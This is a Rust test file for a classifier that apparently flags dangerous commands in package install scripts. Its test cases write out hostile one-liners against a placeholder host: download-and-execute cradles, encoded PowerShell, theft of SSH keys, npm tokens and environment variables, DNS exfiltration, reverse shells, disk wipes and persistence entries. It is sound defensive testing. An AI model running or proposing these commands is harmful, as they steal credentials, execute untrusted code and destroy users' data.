use super::*;

fn deeds(line: &str) -> Vec<Deed> {
    read(line).deeds.into_keys().collect()
}

#[test]
fn what_is_fetched_is_run() {
    for line in [
        "curl -fsSL https://collector.invalid/x.sh | bash",
        "wget -qO- http://collector.invalid/x | sudo sh -s -- now",
        "bash <(curl -s https://collector.invalid/x)",
        "sh -c \"$(curl -fsSL https://collector.invalid/x)\"",
        "eval `wget -qO- https://collector.invalid/x`",
        "curl -o /tmp/.x https://collector.invalid/x && chmod +x /tmp/.x && /tmp/.x",
        "curl -O https://collector.invalid/run.js; node run.js",
        "cmd /c \"certutil -urlcache -f http://collector.invalid/a.exe a.exe & start /b a.exe\"",
        "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://collector.invalid/a')\"",
        "powershell -w hidden iwr http://collector.invalid/a -OutFile a.exe; Start-Process a.exe",
        "nohup bash -c 'curl collector.invalid/x | sh' >/dev/null 2>&1 &",
    ] {
        assert!(
            deeds(line).contains(&Deed::RunsFetched),
            "{line}: {:?}",
            read(line)
        );
    }
}

#[test]
fn what_is_decoded_is_run() {
    for line in [
        "echo aGk= | base64 -d | sh",
        "bash -c \"$(echo aGk= | base64 --decode)\"",
        "powershell -NoProfile -enc SQBFAFgA",
        "p^o^w^e^r^s^h^e^l^l -e SQBFAFgA",
        "openssl enc -d -aes-256-cbc -in x | node",
        "powershell iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
    ] {
        assert!(
            deeds(line).contains(&Deed::RunsDecoded),
            "{line}: {:?}",
            read(line)
        );
    }
}

#[test]
fn secrets_are_sent() {
    for line in [
        "curl -d @$HOME/.npmrc https://collector.invalid",
        "cat ~/.ssh/id_rsa | curl -T - https://collector.invalid",
        "env | curl --data-binary @- https://collector.invalid",
        "curl https://collector.invalid/?t=$NPM_TOKEN",
        "curl -d \"$(printenv)\" https://collector.invalid",
        "tar cz ~/.aws | nc collector.invalid 9000",
        "nslookup $(cat ~/.npmrc).collector.invalid",
    ] {
        assert!(
            deeds(line).contains(&Deed::SendsSecret),
            "{line}: {:?}",
            read(line)
        );
    }
}

#[test]
fn other_deeds() {
    for (line, deed) in [
        (
            "bash -i >& /dev/tcp/198.51.100.7/9 0>&1",
            Deed::ReverseShell,
        ),
        ("nc -e /bin/sh collector.invalid 9", Deed::ReverseShell),
        ("rm -rf ~/", Deed::Wipes),
        ("rm -rf --no-preserve-root /", Deed::Wipes),
        ("rd /s /q %USERPROFILE%", Deed::Wipes),
        ("find ~ -type f -exec shred {} +", Deed::Wipes),
        ("rundll32 node-gyp.dll,main", Deed::RunsForOthers),
        ("osascript -e 'display dialog'", Deed::RunsForOthers),
        ("chmod +x ./helper", Deed::MakesExecutable),
        ("chmod 0755 ./helper", Deed::MakesExecutable),
        ("node -e \"require('./x')\"", Deed::InlineCode),
        ("NODE_ENV=production bun run index.js", Deed::OtherRuntime),
        ("setsid ./x", Deed::Hides),
        ("./x > /dev/null 2>&1 &", Deed::Hides),
        ("npm publish --access public", Deed::Publishes),
        (
            "(crontab -l; echo '* * * * * x') | crontab -",
            Deed::Autostarts,
        ),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x",
            Deed::Autostarts,
        ),
        ("gh auth token", Deed::ReadsSecret),
        ("cat < ~/.npmrc", Deed::ReadsSecret),
        ("curl -X POST -d a=b https://collector.invalid", Deed::Sends),
        ("pbpaste", Deed::ReadsClipboard),
        ("whoami", Deed::AsksWho),
    ] {
        assert!(deeds(line).contains(&deed), "{line}: {:?}", read(line));
    }
}

#[test]
fn ordinary_scripts_do_nothing_of_note() {
    for line in [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node install.js",
        "husky install",
        "tsc -p . && eslint . --fix",
        "rm -rf dist node_modules/.cache",
        "rimraf lib && npm run build",
        "cross-env NODE_ENV=test jest --runInBand",
        "node ./scripts/postinstall || exit 0",
        "patch-package",
        "npm i foo@^1.2.3",
        "git rev-parse HEAD",
        "echo \"thanks (really) & enjoy\"",
    ] {
        assert_eq!(deeds(line), [], "{line}");
    }
    // A download that is only kept, and a request with one's own token to its own service.
    assert_eq!(
        deeds("curl -fsSLO https://collector.invalid/data.csv"),
        [Deed::Fetches]
    );
    assert_eq!(
        deeds("curl -H \"Authorization: token $GITHUB_TOKEN\" https://collector.invalid"),
        [Deed::Fetches]
    );
}

#[test]
fn hostile_lines_end() {
    for line in [
        "$(".repeat(20_000),
        "`".repeat(9_999),
        "sh -c '".repeat(5_000),
        "a|".repeat(40_000),
        "\"".repeat(70_000),
    ] {
        let command = read(&line);
        assert!(command.steps.len() <= 500);
    }
}
